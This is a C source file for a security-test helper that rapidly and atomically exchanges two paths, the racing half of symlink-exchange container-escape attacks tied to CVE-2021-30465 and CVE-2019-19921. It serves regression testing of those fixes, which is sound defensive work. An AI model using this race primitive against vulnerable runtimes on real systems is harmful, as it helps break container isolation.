/* rename_swap: the racing side of the symlink-exchange attacks
 * (CVE-2021-30465, CVE-2019-19921), for the security tests (built static by
 * the test, since it runs inside the busybox rootfs).
 *
 *   rename_swap [-t SECONDS] [-s STOPFILE] PATH1 PATH2
 *
 * Exchanges PATH1 and PATH2 atomically (renameat2 RENAME_EXCHANGE) as fast
 * as it can, until SECONDS (default 30) have passed or STOPFILE exists, and
 * leaves them as they were at the start when it stops. Prints "ready" once
 * the first exchange succeeded and "swaps <n>" at the end. Exit status 0, or
 * 1 when an exchange failed (printed), 2 bad usage. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int exchange(const char *a, const char *b)
{
	return renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	double limit = 30;
	const char *stop = NULL;
	int opt;
	while ((opt = getopt(argc, argv, "t:s:")) != -1) {
		switch (opt) {
		case 't':
			limit = strtod(optarg, NULL);
			break;
		case 's':
			stop = optarg;
			break;
		default:
			fprintf(stderr,
			        "usage: rename_swap [-t SECONDS] [-s STOPFILE] PATH1 PATH2\n");
			return 2;
		}
	}
	if (optind + 2 != argc) {
		fprintf(stderr, "usage: rename_swap [-t SECONDS] [-s STOPFILE] PATH1 PATH2\n");
		return 2;
	}
	const char *a = argv[optind], *b = argv[optind + 1];
	setvbuf(stdout, NULL, _IOLBF, 0);
	time_t end = time(NULL) + (time_t)limit;
	unsigned long swaps = 0;
	for (;;) {
		if (exchange(a, b) < 0) {
			printf("renameat2 %s %s: %s\n", a, b, strerror(errno));
			return 1;
		}
		if (++swaps == 1)
			printf("ready\n");
		if (swaps % 2048 != 0)
			continue;
		if (time(NULL) >= end || (stop && access(stop, F_OK) == 0))
			break;
	}
	/* an even count: both names are back where they were */
	if (swaps % 2 != 0 && exchange(a, b) == 0)
		swaps++;
	printf("swaps %lu\n", swaps);
	return 0;
}
